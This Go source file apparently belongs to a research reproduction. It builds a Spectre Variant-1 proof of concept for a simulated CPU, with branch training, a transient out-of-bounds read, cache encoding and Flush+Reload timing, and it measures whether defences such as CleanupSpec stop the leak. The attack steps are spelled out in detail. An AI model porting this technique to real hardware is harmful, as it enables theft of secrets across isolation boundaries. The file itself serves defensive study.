// Package attack implements the paper's attack toolkit as real programs for
// the simulated core: the Spectre Variant-1 proof of concept that Figure 11
// is built from (train the bounds-check branch, transiently read a secret
// out of bounds, encode it into the cache as array2[secret*512], infer it
// on the correct path with Flush+Reload timing), a Prime+Probe variant that
// observes the *eviction* instead of the install (the Section 2.4.1 attack
// that defeats naive invalidation), and an L2 Prime+Probe demonstrating
// what CEASER randomization breaks.
package attack

import (
	"repro/internal/arch"
	"repro/internal/cpu"
	"repro/internal/isa"
	"repro/internal/memsys"
)

// Spectre PoC memory layout.
const (
	addrSize   = arch.Addr(0x1000) // array1_size (bounds)
	addrArray1 = arch.Addr(0x2000) // 8-entry victim array
	addrSecret = arch.Addr(0x3000) // the out-of-bounds secret byte
	addrArray2 = arch.Addr(0x10_0000)
	addrRes    = arch.Addr(0x20_0000) // per-index accumulated latencies

	// MaliciousX indexes array1 so that array1[MaliciousX] is the secret:
	// addrArray1 + MaliciousX*8 == addrSecret.
	MaliciousX = int64((addrSecret - addrArray1) / 8)
	// ProbeEntries is the number of array2 slots probed (Figure 11's x
	// axis).
	ProbeEntries = 64
	// ProbeStride is the byte distance between array2 slots (the PoC's
	// 512-byte stride, 8 cache lines apart).
	ProbeStride = 512
)

// SpectreConfig parameterizes the PoC.
type SpectreConfig struct {
	// Iterations is the number of attack rounds averaged over
	// (the paper averages 100).
	Iterations int
	// Secret is the planted secret value (the paper's PoC leaks 50).
	Secret int
}

// DefaultSpectreConfig returns the paper's PoC setup.
func DefaultSpectreConfig() SpectreConfig {
	return SpectreConfig{Iterations: 100, Secret: 50}
}

// SpectreResult holds the Figure 11 data for one policy.
type SpectreResult struct {
	Policy string
	// AvgLatency[k] is the average probe latency of array2[k*512] over
	// the iterations, in cycles.
	AvgLatency [ProbeEntries]float64
	// Secret is the planted value; Inferred is argmin latency over the
	// non-benign indices; Leaked reports whether the attack recovered
	// the secret with a clear timing margin.
	Secret   int
	Inferred int
	Leaked   bool
	// BenignIndices are the training values (installed on the correct
	// path; fast under every policy, per Figure 11).
	BenignIndices []int
}

// buildSpectreProgram assembles the PoC.
//
// Per iteration: flush array2; re-warm the secret's line (victim data in
// active use); train the bounds check with x = 1..5; flush array1_size;
// call the victim with MaliciousX; probe all 64 array2 slots with
// rdcycle-timed loads, accumulating latencies into memory.
func buildSpectreProgram(cfg SpectreConfig) *isa.Program {
	b := isa.NewBuilder("spectre-v1")
	b.InitData(addrSize, 16) // bounds: training x in 1..12 stays in range
	for i := int64(0); i < 16; i++ {
		b.InitData(addrArray1+arch.Addr(i*8), uint64(i)) // array1[i] = i
	}
	b.InitData(addrSecret, uint64(cfg.Secret))

	b.Li(28, int64(cfg.Iterations))
	b.Label("outer")

	// Flush array2's probe slots.
	b.Li(1, int64(addrArray2))
	b.Li(2, ProbeEntries)
	b.Label("flush2")
	b.CLFlush(1, 0)
	b.AddI(1, 1, ProbeStride)
	b.AddI(2, 2, -1)
	b.Br(isa.CondNE, 2, 0, "flush2")

	// Keep the secret's line resident (the victim uses this data).
	b.Li(3, int64(addrSecret))
	b.Load(4, 3, 0)

	// Train the victim's bounds check with x counting down to 1. The
	// training count varies per iteration (5..12, keyed off the
	// iteration counter) so the branch-history pattern preceding the
	// attack is not fixed — a fixed pattern would let the local history
	// predictor learn the attack itself.
	b.Mix(27, 28, 0x7A31)
	b.AluI(isa.AluAnd, 27, 27, 7)
	b.AddI(27, 27, 5)
	b.Label("train")
	b.Add(1, 27, 0) // x = r27
	b.Call("victim")
	b.AddI(27, 27, -1)
	b.Br(isa.CondNE, 27, 0, "train")

	// Flush the bounds so the mispredicted check resolves slowly.
	b.Li(3, int64(addrSize))
	b.CLFlush(3, 0)
	b.Fence()

	// Attack call.
	b.Li(1, MaliciousX)
	b.Call("victim")

	// Give a squash-surviving in-flight fill time to land before probing
	// (the non-secure baseline lets it land; CleanupSpec drops it).
	b.Li(3, int64(addrSize+0x800))
	b.Load(4, 3, 0) // cold line: ~memory latency delay
	b.Fence()

	// Probe phase (Flush+Reload): time each array2 slot.
	b.Li(26, 0)
	b.Li(25, ProbeEntries)
	b.Li(24, int64(addrArray2))
	b.Li(23, int64(addrRes))
	b.Label("probe")
	b.AluI(isa.AluShl, 5, 26, 9) // k*512
	b.Add(6, 24, 5)
	// lfence-style serialization: the timed load may not issue before
	// the first timer read, and the second timer read is itself
	// serializing (executes at ROB head), bracketing the load exactly.
	b.Fence()
	b.RdCycle(8)
	b.Load(9, 6, 0)
	b.RdCycle(11)
	b.Alu(isa.AluSub, 12, 11, 8)
	b.AluI(isa.AluShl, 13, 26, 3)
	b.Add(14, 23, 13)
	b.Load(15, 14, 0)
	b.Add(15, 15, 12)
	b.Store(14, 0, 15)
	b.AddI(26, 26, 1)
	b.Br(isa.CondLTU, 26, 25, "probe")

	b.AddI(28, 28, -1)
	b.Br(isa.CondNE, 28, 0, "outer")
	b.Halt()

	// victim(x in r1): if x < array1_size { array2[array1[x]*512] }.
	b.Label("victim")
	b.Li(21, int64(addrSize))
	b.Load(22, 21, 0)
	b.Br(isa.CondGEU, 1, 22, "vout") // out of bounds: skip
	b.AluI(isa.AluShl, 23, 1, 3)
	b.Li(24, int64(addrArray1))
	b.Add(23, 23, 24)
	b.Load(23, 23, 0) // array1[x] — the secret on the transient path
	b.AluI(isa.AluShl, 23, 23, 9)
	b.Li(24, int64(addrArray2))
	b.Add(23, 23, 24)
	b.Load(23, 23, 0) // array2[value*512]: the transmission
	b.Label("vout")
	b.Ret()

	return b.Build()
}

// RunSpectreV1 executes the PoC under the given policy and hierarchy
// configuration and returns the Figure 11 data.
func RunSpectreV1(pol cpu.Policy, hcfg memsys.Config, cfg SpectreConfig) SpectreResult {
	prog := buildSpectreProgram(cfg)
	mcfg := cpu.DefaultConfig()
	mcfg.MaxCycles = arch.Cycle(uint64(cfg.Iterations)*2_000_000 + 10_000_000)
	h := memsys.New(hcfg)
	m := cpu.New(mcfg, prog, h, pol)
	m.Run(0)
	if !m.Halted() {
		// A non-halting attack program is a harness bug, not a recoverable
		// campaign cell.
		panic("attack: spectre PoC did not complete")
	}

	res := SpectreResult{Secret: cfg.Secret, BenignIndices: []int{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12}}
	if pol != nil {
		res.Policy = pol.Name()
	} else {
		res.Policy = "nonsecure"
	}
	for k := 0; k < ProbeEntries; k++ {
		total := m.Memory().Read64(addrRes + arch.Addr(k*8))
		res.AvgLatency[k] = float64(total) / float64(cfg.Iterations)
	}

	// Inference: the fastest non-benign index.
	benign := map[int]bool{}
	for _, bidx := range res.BenignIndices {
		benign[bidx] = true
	}
	best, bestLat := -1, 0.0
	second := 0.0
	for k := 0; k < ProbeEntries; k++ {
		if benign[k] {
			continue
		}
		lat := res.AvgLatency[k]
		switch {
		case best == -1:
			best, bestLat = k, lat
		case lat < bestLat:
			second = bestLat
			best, bestLat = k, lat
		case second == 0 || lat < second:
			second = lat
		}
	}
	res.Inferred = best
	// Leaked: the winner is the planted secret AND it is clearly
	// separated from the runner-up. All non-secret indices miss with
	// near-identical latency, so even a few successful rounds in the
	// average produce a distinct dip; 5 cycles is far above the noise.
	res.Leaked = best == cfg.Secret && bestLat <= second-5
	return res
}
